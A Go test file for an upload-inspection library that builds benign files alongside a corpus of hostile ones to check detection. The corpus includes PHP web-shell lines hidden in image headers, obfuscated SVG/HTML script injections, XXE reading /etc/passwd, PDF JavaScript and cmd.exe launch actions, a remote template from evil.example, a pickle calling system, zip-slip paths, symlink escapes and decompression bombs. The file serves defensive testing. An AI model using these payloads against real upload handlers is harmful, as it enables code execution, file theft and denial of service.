package content

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/color/palette"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/ulikunitz/xz"
)

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

func picture(w, h int) image.Image {
	m := image.NewPaletted(image.Rect(0, 0, w, h), palette.WebSafe)
	r := rand.New(rand.NewPCG(1, 2))
	for i := range m.Pix {
		m.Pix[i] = uint8(r.IntN(len(palette.WebSafe)))
	}
	return m
}

func pngOf(w, h int) string {
	var b bytes.Buffer
	if err := png.Encode(&b, picture(w, h)); err != nil {
		panic(err)
	}
	return b.String()
}

func jpegOf(w, h int) string {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, picture(w, h), nil); err != nil {
		panic(err)
	}
	return b.String()
}

func gifOf(w, h int) string {
	var b bytes.Buffer
	if err := gif.Encode(&b, picture(w, h), nil); err != nil {
		panic(err)
	}
	return b.String()
}

// withComment puts a comment segment behind a JPEG's first marker.
func withComment(jpeg, text string) string {
	return jpeg[:2] + "\xff\xfe" + string(binary.BigEndian.AppendUint16(nil, uint16(len(text)+2))) + text + jpeg[2:]
}

type member struct{ name, text string }

func zipOf(members ...member) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, m := range members {
		w := must(z.Create(m.name))
		must(io.WriteString(w, m.text))
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

func tarOf(headers ...tar.Header) string {
	var b bytes.Buffer
	t := tar.NewWriter(&b)
	for _, h := range headers {
		text := h.PAXRecords["text"]
		h.PAXRecords, h.Size, h.Mode = nil, int64(len(text)), 0o600
		if err := t.WriteHeader(&h); err != nil {
			panic(err)
		}
		must(io.WriteString(t, text))
	}
	if err := t.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

func entryOf(name, text string) tar.Header {
	return tar.Header{Name: name, Typeflag: tar.TypeReg, PAXRecords: map[string]string{"text": text}}
}

func gzipOf(text string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	must(io.WriteString(z, text))
	z.Close()
	return b.String()
}

func xzOf(text string) string {
	var b bytes.Buffer
	z := must(xz.NewWriter(&b))
	must(io.WriteString(z, text))
	z.Close()
	return b.String()
}

func zlibOf(text string) string {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	must(io.WriteString(z, text))
	z.Close()
	return b.String()
}

// oleOf is a compound file with directory entries of some names.
func oleOf(names ...string) string {
	b := make([]byte, 512+512*((len(names)+4)/4))
	copy(b, oleMagic)
	copy(b[24:], "\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00")
	for i, name := range append([]string{"Root Entry"}, names...) {
		e := b[512+128*i:]
		for j, c := range utf16.Encode([]rune(name)) {
			binary.LittleEndian.PutUint16(e[2*j:], c)
		}
		e[64], e[66] = byte(2*len(name)+2), 2
	}
	return string(b)
}

func pdfOf(objects ...string) string {
	s := "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
	for i, o := range objects {
		s += fmt.Sprintf("%d 0 obj\n%s\nendobj\n", i+3, o)
	}
	return s + "trailer\n<< /Root 1 0 R >>\n%%EOF\n"
}

const elf = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00\x01\x00\x00\x00"

var exe = "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + strings.Repeat("\x00", 44) + "\x40\x00\x00\x00PE\x00\x00\x64\x86" + strings.Repeat("\x00", 200)

func docx(more ...member) string {
	return zipOf(append([]member{
		{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`},
		{"_rels/.rels", `<?xml version="1.0"?><Relationships/>`},
		{"word/document.xml", `<?xml version="1.0"?><w:document/>`},
	}, more...)...)
}

func rels(line string) string {
	return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + line + `</Relationships>`
}

const svgHead = `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">`

func svg(inner string) string { return svgHead + inner + "</svg>" }

// utf16le writes text as UTF-16 with a byte order mark.
func utf16le(s string) string {
	b := []byte{0xff, 0xfe}
	for _, c := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, c)
	}
	return string(b)
}

// honest are files as people send them: nothing is found in them, unless the
// case says what.
func honest() []sample {
	webp := "RIFF\x24\x00\x00\x00WEBPVP8L\x18\x00\x00\x00\x2f\x09\x40\x02\x00\x07\x50\xd2\xfa\xd6\xff\xa8\xff\x89\x88\xfe\x07\x00\x00\x00\x00\x00\x00\x00"
	return []sample{
		{"cat.png", "image/png", pngOf(40, 30), nil},
		{"cat.JPG", "image/jpeg", jpegOf(40, 30), nil},
		{"cat.jpeg", "image/pjpeg", withComment(jpegOf(40, 30), "CREATOR: gd-jpeg v1.0 (a < b > c), quality = 90"), nil},
		{"cat.gif", "image/gif", gifOf(40, 30), nil},
		{"cat.webp", "image/webp", webp, nil},
		{"shot.jpg", "image/jpeg", pngOf(40, 30), nil}, // another image format: nothing runs it
		{"logo.svg", "image/svg+xml", svg(`<style>a{fill:red}</style><title>on &lt;script&gt;</title><a href="https://example.org/"><path d="M0 0h1"/></a><!-- <b> --><g inkscape:label="Layer on" onion="1"/>`), []Danger{SVGScript}},
		{"plain.svg", "image/svg+xml", svg(`<style>a{fill:red}</style><a href="https://example.org/"><path d="M0 0h1"/></a><!-- <script> was here --><foreignObject><div>label</div></foreignObject><image href="data:image/png;base64,AAAA"/>`), nil},
		{"adobe.svg", "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_xlink "http://www.w3.org/1999/xlink">]><svg xmlns="&ns_svg;"/>`, nil},
		{"report.pdf", "application/pdf", pdfOf("<< /Type /Page /Contents 4 0 R >>", "<< /Length 3 >>\nstream\nq Q\nendstream", "<< /OpenAction [3 0 R /Fit] /Title (On JavaScript and Launch) >>"), nil},
		{"letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx(member{"word/_rels/document.xml.rels", rels(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org" TargetMode="External"/>`)}), nil},
		{"old.doc", "application/msword", oleOf("WordDocument", "1Table"), nil},
		{"table.xls", "application/vnd.ms-excel", oleOf("Workbook"), nil},
		{"rates.csv", "application/vnd.ms-excel", "a,b\n1,2\n", nil},
		{"notes.txt", "text/plain", "plain <b>text</b>", nil},
		{"customers.txt", "text/plain", "MZ Maschinenbau GmbH\nFWS Ltd\n", nil},
		{"stock.csv", "text/csv", "FWS;12\nMZ;3\n", nil},
		{"phones.txt", "text/plain", "070701 234567\n", nil},
		{"cars.txt", "text/plain", "BMW 320\n", nil},
		{"readme.md", "application/octet-stream", "# Title\n\n<script>example</script>\n", nil},
		{"data.json", "application/json", `{"a": "<script>"}`, nil},
		{"feed.xml", "text/xml", `<?xml version="1.0"?><rss/>`, nil},
		{"all.zip", "application/x-zip-compressed", zipOf(member{"a/", ""}, member{"a/b.txt", "hello"}, member{"a/c.png", pngOf(9, 9)}, member{"d.docx", docx()}), nil},
		{"src.tar.gz", "application/gzip", gzipOf(tarOf(entryOf("src/a.py", "print(1)"), tar.Header{Name: "src/b", Typeflag: tar.TypeSymlink, Linkname: "a.py"}, tar.Header{Name: "src/lib/c", Typeflag: tar.TypeSymlink, Linkname: "../a.py"})), nil},
		{"src.tar", "application/x-tar", tarOf(entryOf("./a", strings.Repeat("x", 5000)), tar.Header{Name: "d/", Typeflag: tar.TypeDir}), nil},
		{"log.txt.gz", "application/gzip", gzipOf(strings.Repeat("127.0.0.1 - - GET / 200\n", 10_000)), nil},
		{"plain.svgz", "image/svg+xml", gzipOf(svg("<path/>")), nil},
		{"log.xz", "application/x-xz", xzOf(strings.Repeat("line\n", 10_000)), nil},
		{"song.mp3", "audio/mpeg", "ID3\x03\x00\x00\x00\x00\x00\x0aTIT2" + strings.Repeat("\x00", 100) + "\xff\xfb\x90\x00", nil},
		{"film.mp4", "video/mp4", "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + strings.Repeat("\x00", 100), nil},
		{"font.woff2", "font/woff2", "wOF2\x00\x01\x00\x00" + strings.Repeat("\x00", 100), nil},
		{"app.py", "text/x-python", "#!/usr/bin/env python3\nimport os\n", []Danger{Executable}},
		{"page.html", "text/html", "<!doctype html><p>hi<script>1</script>", []Danger{ActiveHTML}},
		{"export.xls", "application/vnd.ms-excel", "<html><table><tr><td>1</table>", []Danger{ActiveHTML, TypeMismatch}},
		{"tool.exe", "application/x-msdownload", exe, []Danger{Executable}},
		{"lib.jar", "application/java-archive", zipOf(member{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"}, member{"A.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34" + strings.Repeat("\x00", 50)}), nil},
		{"page.html.db", "", "<!doctype html><p>", []Danger{ActiveHTML, TypeMismatch}},
		{"drawing.eps", "application/postscript", "%!PS-Adobe-3.0 EPSF-3.0\n", nil},
		{"scan.pdf", "application/pdf", "HTTP/1.1 200 OK\r\n\r\n" + pdfOf(), []Danger{Malformed}},
		{"data.bin", "", "\x01\x02" + zipOf(member{"a", "x"}) + "\x00\x01", nil},
		{"blob", "", "\x01\x02\x03\x04 whatever", nil},
		{"", "application/octet-stream", "", nil},
		{"empty.png", "image/png", "", nil},
	}
}

type sample struct {
	name, kind, text string
	dangers          []Danger
}

// hostile are files that do harm to whoever opens, unpacks, serves or believes
// them.
func hostile() []sample {
	zipped := zipOf(member{"a.class", "x"})
	deep := "x"
	for i := range 6 {
		deep = zipOf(member{fmt.Sprintf("%d.zip", i), deep})
	}
	wide := make([]member, 300)
	for i := range wide {
		wide[i] = member{fmt.Sprint(i), ""}
	}
	zeros := strings.Repeat("\x00", 4<<20)
	var dup bytes.Buffer
	z := zip.NewWriter(&dup)
	must(z.Create("a.txt"))
	must(z.Create("a.txt"))
	z.Close()
	renamed := strings.Replace(zipOf(member{"a.txt", "x"}), "a.txt", "b.php", 1) // in its own header
	size := []byte(zipOf(member{"a.txt", strings.Repeat("x", 100)}))
	at := bytes.Index(size, []byte("PK\x01\x02"))
	binary.LittleEndian.PutUint32(size[at+24:], 5)
	locked := []byte(zipOf(member{"a.txt", "x"}))
	locked[6] |= 1
	locked[bytes.Index(locked, []byte("PK\x01\x02"))+8] |= 1
	var link bytes.Buffer
	z = zip.NewWriter(&link)
	h := &zip.FileHeader{Name: "etc"}
	h.SetMode(0o777 | 0o20000000000>>4)
	h.ExternalAttrs = 0xa1ff0000
	h.CreatorVersion = 3 << 8
	must(io.WriteString(must(z.CreateHeader(h)), "../../etc"))
	z.Close()
	objects := fmt.Sprintf("<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 50 >>\nstream\r\n%s\nendstream", zlibOf("7 0 << /S /JavaScript /JS (app.alert(1)) >>"))
	big := pngOf(8, 8)
	big = big[:16] + "\x00\x01\x00\x00\x00\x01\x00\x00" + big[24:]
	return []sample{
		{"cat.png", "image/png", "<html><script>alert(1)</script>", []Danger{Disguised, ActiveHTML}},
		{"cat.png", "image/png", strings.Repeat(" ", 3000) + "<svg onload=alert(1)>", []Danger{Disguised, SVGScript}},
		{"cat.png", "image/png", utf16le(svg("<script>1</script>")), []Danger{Disguised, SVGScript}},
		{"cat.jpg", "image/jpeg", "<img src=x onerror=alert(1)>", []Danger{Disguised, ActiveHTML}},
		{"cat.gif", "image/gif", "<?php system($_GET[0]);", []Danger{Disguised, Executable}},
		{"cat.gif", "image/gif", "GIF89a;<script>alert(1)</script>", []Danger{HiddenScript}},
		{"cat.gif", "image/gif", "GIF89a=1;<?php system($_GET[0]); ?>", []Danger{HiddenScript}},
		{"cat.png", "image/png", "\x89PNG\r\n\x1a\n<?php phpinfo();", []Danger{HiddenScript, Malformed}},
		{"cat.jpg", "image/jpeg", withComment(jpegOf(9, 9), "<?php system($_GET['c']); ?>"), []Danger{HiddenScript}},
		{"cat.jpg", "image/jpeg", withComment(jpegOf(9, 9), "<SCRIPT src=//x>"), []Danger{HiddenScript}},
		{"cat.jpg", "image/jpeg", jpegOf(9, 9) + zipped, []Danger{Polyglot}},
		{"cat.gif", "image/gif", gifOf(9, 9) + zipped, []Danger{Polyglot}},
		{"cat.png", "image/png", pngOf(9, 9) + "Rar!\x1a\x07\x01\x00", []Danger{Polyglot}},
		{"cat.png", "image/png", pngOf(9, 9) + "<?php __HALT_COMPILER(); ?>\r\n", []Danger{Polyglot}},
		{"cat.jpg", "image/jpeg", withComment(jpegOf(9, 9), "%PDF-1.4 1 0 obj"), []Danger{Polyglot}},
		{"cat.jpg", "image/jpeg", exe, []Danger{Disguised, Executable}},
		{"song.mp3", "audio/mpeg", elf, []Danger{Disguised, Executable}},
		{"model.png", "image/png", "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.", []Danger{Disguised}},
		{"page.html", "image/png", "<!doctype html><p>", []Danger{Disguised}}, // an app that believes the type
		{"report.pdf", "application/pdf", "<!doctype html><p>", []Danger{Disguised}},
		{"run.txt", "text/plain", exe, []Danger{Disguised}},
		{"report.pdf", "application/pdf", pdfOf() + zipped, []Danger{Polyglot}},
		{"cat.jpg", "image/jpeg", "push graphic-context\nviewbox 0 0 640 480\n", []Danger{Disguised}},
		{"cat.jpg", "image/jpeg", "%!PS\nuserdict /setpagedevice undef\n", []Danger{Disguised}},
		{"big.png", "image/png", big, []Danger{ImageSize}},

		{"a.svg", "image/svg+xml", svg("<script>alert(1)</script>"), []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">1</x:script>`), []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", svg("<title><script>1</script></title>"), []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", svg("<!--><script>1</script>-->"), []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", svg(`<a href="&#106;ava&#x0a;script:alert(1)"><path/></a>`), []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", svg(`<a xlink:href=' JavaScript:alert(1)'/>`), []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", svg(`<animate attributeName="href" values="x;javascript:alert(1)"/>`), []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", svg(`<use href="data:image/svg+xml;base64,AAAA#x"/>`), []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", svg(`<foreignObject><iframe src="//x"/></foreignObject>`), []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", strings.Replace(svg(""), "<svg ", "<svg/onload=alert(1) ", 1), []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></s:svg>`, []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", `<?xml version="1.0" encoding="utf-7"?><svg/>`, []Danger{SVGScript}},
		{"a.svg", "image/svg+xml", `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>1</script>">]><svg>&x;</svg>`, []Danger{XMLEntities, SVGScript}},
		{"a.xml", "text/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, []Danger{XMLEntities}},
		{"a.xml", "text/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x PUBLIC "x" "http://x/"> %x;]><a/>`, []Danger{XMLEntities}},
		{"a.xml", "text/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>`, []Danger{XMLEntities}},

		{"a.pdf", "application/pdf", pdfOf("<< /S /JavaScript /JS (app.alert(1)) >>"), []Danger{PDFScript}},
		{"a.pdf", "application/pdf", pdfOf("<< /S /J#61va#53cript /JS (1) >>"), []Danger{PDFScript}},
		{"a.pdf", "application/pdf", pdfOf(objects), []Danger{PDFScript}},
		{"a.pdf", "application/pdf", pdfOf(strings.Repeat("x", windowStep-100), objects), []Danger{PDFScript}},
		{"a.pdf", "application/pdf", pdfOf("<< /S /Launch /F (cmd.exe) >>"), []Danger{PDFLaunch}},
		{"a.pdf", "application/pdf", pdfOf("<< /Type /EmbeddedFile /Length 1 >>"), []Danger{PDFEmbedded}},
		{"a.pdf", "application/pdf", pdfOf("<< /Encrypt 9 0 R >>"), []Danger{Encrypted}},

		{"a.doc", "application/msword", oleOf("WordDocument", "Macros", "VBA", "_VBA_PROJECT"), []Danger{Macro}},
		{"a.doc", "application/msword", oleOf("WordDocument", "\x01Ole10Native"), []Danger{Embedded}},
		{"a.docx", "", oleOf("EncryptionInfo", "EncryptedPackage"), []Danger{Encrypted}},
		{"a.docm", "", docx(member{"word/vbaProject.bin", oleOf("VBA", "_VBA_PROJECT")}), []Danger{Macro}},
		{"a.docx", "", docx(member{"word/_rels/settings.xml.rels", rels(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`)}), []Danger{External}},
		{"a.docx", "", docx(member{"word/embeddings/oleObject1.bin", oleOf("\x01Ole10Native")}), []Danger{Embedded}},
		{"mail.zip", "", zipOf(member{"invoice.doc", oleOf("Macros")}), []Danger{Macro}},

		{"a.zip", "", zipOf(member{"../../app.py", "x"}), []Danger{ArchivePath}},
		{"a.zip", "", zipOf(member{`..\..\app.py`, "x"}), []Danger{ArchivePath}},
		{"a.zip", "", zipOf(member{"a/../../app.py", "x"}), []Danger{ArchivePath}},
		{"a.zip", "", zipOf(member{"/etc/cron.d/x", "x"}), []Danger{ArchivePath}},
		{"a.zip", "", zipOf(member{"C:/x", "x"}), []Danger{ArchivePath}},
		{"a.zip", "", link.String(), []Danger{ArchiveLink}},
		{"a.tar", "", tarOf(entryOf("../x", "x")), []Danger{ArchivePath}},
		{"a.tar", "", tarOf(tar.Header{Name: "a", Typeflag: tar.TypeSymlink, Linkname: "/etc"}, entryOf("a/cron", "x")), []Danger{ArchiveLink}},
		{"a.tgz", "", gzipOf(tarOf(tar.Header{Name: "d/a", Typeflag: tar.TypeSymlink, Linkname: "../../x"})), []Danger{ArchiveLink}},
		{"a.tar", "", tarOf(tar.Header{Name: "a", Typeflag: tar.TypeLink, Linkname: "../../etc/passwd"}), []Danger{ArchiveLink}},
		{"a.tar", "", tarOf(tar.Header{Name: "a", Typeflag: tar.TypeChar}), []Danger{ArchiveLink}},
		{"a.zip", "", dup.String(), []Danger{ArchiveAmbiguous}},
		{"a.zip", "", zipOf(member{"../x", "x"}) + "\x00", []Danger{ArchivePath, Malformed}}, // zipfile opens it all the same
		{"a.zip", "", two(), []Danger{ArchiveAmbiguous}},
		{"cat.gif", "image/gif", gifOf(9, 9)[:13+3*256] + "!\xfe\xff" + zipped + strings.Repeat("\x00", 255-len(zipped)) + "\x00" + gifOf(9, 9)[13+3*256:], []Danger{Polyglot}},
		{"a.pdf", "application/pdf", "BM\x00\x00\x00\x00" + pdfOf(), []Danger{Polyglot}},
		{"a.zip", "", renamed, []Danger{ArchiveAmbiguous}},
		{"a.zip", "", string(size), []Danger{ArchiveAmbiguous}},
		{"a.zip", "", string(locked), []Danger{Encrypted}},
		{"a.zip", "", zipOf(member{"setup.exe", exe}), []Danger{ArchiveExecutable}},
		{"a.zip", "", zipOf(member{"photo.jpg", exe}), []Danger{ArchiveExecutable, Disguised}},
		{"a.zip", "", zipOf(member{"z", zeros}), []Danger{Bomb}},
		{"a.gz", "", gzipOf(zeros), []Danger{Bomb}},
		{"a.xz", "", xzOf(zeros), []Danger{Bomb}},
		{"a.zip", "", zipOf(member{"a.gz", gzipOf(zeros)}), []Danger{Bomb}},
		{"a.zip", "", deep, []Danger{Bomb}},
		{"a.zip", "", zipOf(wide...), []Danger{Bomb}},
		{"a.zip", "", overlapping(), []Danger{Bomb}},
		{"a.svgz", "image/svg+xml", gzipOf(svg("<script>1</script>")), []Danger{SVGScript}},
		{"a.zip", "", claimed(14, 1<<31), []Danger{Bomb, Opaque}},
		{"a.zip", "", "junk" + zipOf(member{"a", "x"}), []Danger{Polyglot}},
		{"a.7z", "", "7z\xbc\xaf\x27\x1c\x00\x04" + strings.Repeat("\x00", 40), []Danger{Unreadable}},
		{"a.rar", "", "Rar!\x1a\x07\x01\x00" + strings.Repeat("\x00", 40), []Danger{Unreadable}},
	}
}

// two is an archive with another one in its comment: what a reader opens
// depends on whether it takes the last end record or the one that fits.
func two() string {
	inner := zipOf(member{"b", "x"}) + "!"
	outer := []byte(zipOf(member{"a", "x"}))
	binary.LittleEndian.PutUint16(outer[len(outer)-2:], uint16(len(inner)))
	return string(outer) + inner
}

// claimed is an archive with an entry of a method that is not known, and of a
// size that it says.
func claimed(method uint16, size uint32) string {
	b := []byte(zipOf(member{"a", "x"}))
	at := bytes.Index(b, []byte("PK\x01\x02"))
	binary.LittleEndian.PutUint16(b[8:], method)
	binary.LittleEndian.PutUint16(b[at+10:], method)
	binary.LittleEndian.PutUint32(b[at+24:], size)
	return string(b)
}

// overlapping is an archive whose directory names the same entry's data ten
// times under the same name, so that local headers agree.
func overlapping() string {
	one := zipOf(member{"a", strings.Repeat("\x00", 1<<20)})
	at := strings.Index(one, "PK\x01\x02")
	end := strings.Index(one, "PK\x05\x06")
	dir := one[at:end]
	tail := []byte(one[end:])
	binary.LittleEndian.PutUint16(tail[8:], 10)
	binary.LittleEndian.PutUint16(tail[10:], 10)
	binary.LittleEndian.PutUint32(tail[12:], uint32(10*len(dir)))
	return one[:at] + strings.Repeat(dir, 10) + string(tail)
}

var tight = Limits{Unpacked: 3 << 20, Entries: 200}

func look(t testing.TB, s sample, limits Limits) *Report {
	t.Helper()
	r, err := Inspect(context.Background(), File{Name: s.name, Type: s.kind, Data: strings.NewReader(s.text), Size: int64(len(s.text))}, limits)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestHonest(t *testing.T) {
	for _, s := range honest() {
		r := look(t, s, Limits{})
		for _, f := range r.Findings {
			if !contains(s.dangers, f.Danger) {
				t.Errorf("%s: %v", s.name, f)
			}
		}
	}
}

func TestHostile(t *testing.T) {
	for i, s := range hostile() {
		r := look(t, s, tight)
		for _, d := range s.dangers {
			if !r.Has(d) {
				t.Errorf("%d, %s: %s is not found, only %v (%s)", i, s.name, d, r.Findings, r.Kind.MIME)
			}
		}
	}
}

func contains(list []Danger, d Danger) bool {
	for _, x := range list {
		if x == d {
			return true
		}
	}
	return false
}

// TestRatio: within the budget a small file still may not be the beginning of
// a very large one.
func TestRatio(t *testing.T) {
	text := gzipOf(strings.Repeat("\x00", 12<<20))
	if r := look(t, sample{"a.gz", "", text, nil}, Limits{Unpacked: 1 << 30}); !r.Has(Bomb) || r.Unpacked > ratioFrom+1<<20 {
		t.Errorf("%d bytes, %v", r.Unpacked, r.Findings)
	}
	if r := look(t, sample{"a.gz", "", text, nil}, Limits{Unpacked: 1 << 30, Ratio: 2000}); r.Has(Bomb) {
		t.Errorf("%v", r.Findings)
	}
}

// TestBudget: what a bomb costs is bounded by the budget, whatever it is made
// of.
func TestBudget(t *testing.T) {
	zeros := strings.Repeat("\x00", 6<<20)
	for _, text := range []string{gzipOf(zeros), zipOf(member{"a", zeros}, member{"b", zeros}), xzOf(zeros), zipOf(member{"a.gz", gzipOf(gzipOf(zeros))})} {
		r := look(t, sample{"x", "", text, nil}, Limits{Unpacked: 2 << 20})
		if !r.Has(Bomb) || r.Unpacked > 3<<20 {
			t.Errorf("%d bytes were unpacked: %v", r.Unpacked, r.Findings)
		}
	}
}

// TestXZDictionary: a file that asks for 4 GiB of memory gets none.
func TestXZDictionary(t *testing.T) {
	b := []byte(xzOf("hello"))
	i := bytes.Index(b, []byte{0x21, 1})
	b[i+2] = 40
	r := look(t, sample{"a.xz", "", string(b), nil}, Limits{})
	if !r.Has(Opaque) {
		t.Errorf("%v", r.Findings)
	}
	if n, err := xzCheck(File{Data: strings.NewReader(xzOf(strings.Repeat("x", 12345)) + "\x00\x00\x00\x00" + xzOf("yy")), Size: int64(len(xzOf(strings.Repeat("x", 12345))) + 4 + len(xzOf("yy")))}); err != nil || n != 12347 {
		t.Errorf("%d, %v", n, err)
	}
}

// TestNoRoom: a file that could not be looked into is an error, never a clean
// one.
func TestNoRoom(t *testing.T) {
	full := errors.New("the disk is full")
	for _, text := range []string{zipOf(member{"a.zip", zipOf(member{"../x", ""})}), gzipOf(tarOf(entryOf("a.zip", zipOf(member{"../x", ""})))), gzipOf(svg("")), gzipOf(gzipOf("x"))} {
		_, err := Inspect(context.Background(), File{Name: "a", Data: strings.NewReader(text), Size: int64(len(text))}, Limits{
			Keep: func(io.Reader) (io.ReaderAt, int64, error) { return nil, 0, full },
		})
		if !errors.Is(err, full) {
			t.Errorf("%v", err)
		}
	}
}

// TestCancel: the look ends with its context.
func TestCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	text := zipOf(member{"a", "x"})
	if _, err := Inspect(ctx, File{Name: "a.zip", Data: strings.NewReader(text), Size: int64(len(text))}, Limits{}); err == nil {
		t.Error("no error")
	}
}

func FuzzInspect(f *testing.F) {
	for i, s := range append(honest(), hostile()...) {
		if len(s.text) < 4000 && i%3 == 0 {
			f.Add(s.name, s.kind, []byte(s.text))
		}
	}
	f.Fuzz(func(t *testing.T, name, kind string, b []byte) {
		limits := Limits{Unpacked: 1 << 20, Entries: 100}
		r, err := Inspect(context.Background(), File{Name: name, Type: kind, Data: bytes.NewReader(b), Size: int64(len(b))}, limits)
		if err != nil {
			t.Fatalf("%v", err)
		}
		if most := max(limits.Unpacked, 10*int64(len(b))) + 64<<10; r.Unpacked > most {
			t.Fatalf("%d bytes were unpacked", r.Unpacked)
		}
		if len(r.Findings) > maxFindings {
			t.Fatal("too many findings")
		}
	})
}

func FuzzXZ(f *testing.F) {
	f.Add([]byte(xzOf("hello")))
	f.Fuzz(func(t *testing.T, b []byte) {
		if n, err := xzCheck(File{Data: bytes.NewReader(b), Size: int64(len(b))}); err == nil && n < 0 {
			t.Fatal(n)
		}
	})
}

func BenchmarkInspect(b *testing.B) {
	noise := image.NewRGBA(image.Rect(0, 0, 1200, 900))
	r := rand.New(rand.NewPCG(1, 2))
	for i := range noise.Pix {
		noise.Pix[i] = byte(r.Uint32())
	}
	noise.Set(0, 0, color.White)
	var photo bytes.Buffer
	if err := png.Encode(&photo, noise); err != nil {
		b.Fatal(err)
	}
	for _, s := range []sample{
		{"photo.png", "image/png", photo.String(), nil},
		{"report.pdf", "application/pdf", pdfOf(strings.Repeat("<< /Type /Page /Contents 4 0 R >>\n", 30_000)), nil},
		{"letter.docx", "", docx(member{"word/media/1.png", photo.String()}), nil},
		{"log.gz", "", gzipOf(strings.Repeat("127.0.0.1 - - [28/Nov/2026] GET / 200 1234\n", 100_000)), nil},
		{"bin", "", photo.String()[1:], nil},
	} {
		b.Run(s.name, func(b *testing.B) {
			b.SetBytes(int64(len(s.text)))
			b.ReportAllocs()
			for b.Loop() {
				look(b, s, Limits{})
			}
		})
	}
}

// What it costs to tell what a file is by its beginning.
func BenchmarkSniff(b *testing.B) {
	for _, s := range []sample{
		{"text", "", strings.Repeat("The quick brown fox jumps over the lazy dog.\n", 1500), nil},
		{"json", "", `[` + strings.Repeat(`{"a": 1, "b": "two"},`, 3000) + `1]`, nil},
		{"csv", "", strings.Repeat("1,two,3.0\n", 6500), nil},
		{"html", "", "<!doctype html>" + strings.Repeat("<p>hello</p>", 5000), nil},
		{"noise", "", pngOf(300, 300)[1:], nil},
	} {
		for _, n := range []int{4096, prefixBytes} {
			b.Run(fmt.Sprintf("%s-%d", s.name, n), func(b *testing.B) {
				text := []byte(s.text[:min(n, len(s.text))])
				b.ReportAllocs()
				for b.Loop() {
					Sniff(text)
				}
			})
		}
	}
}
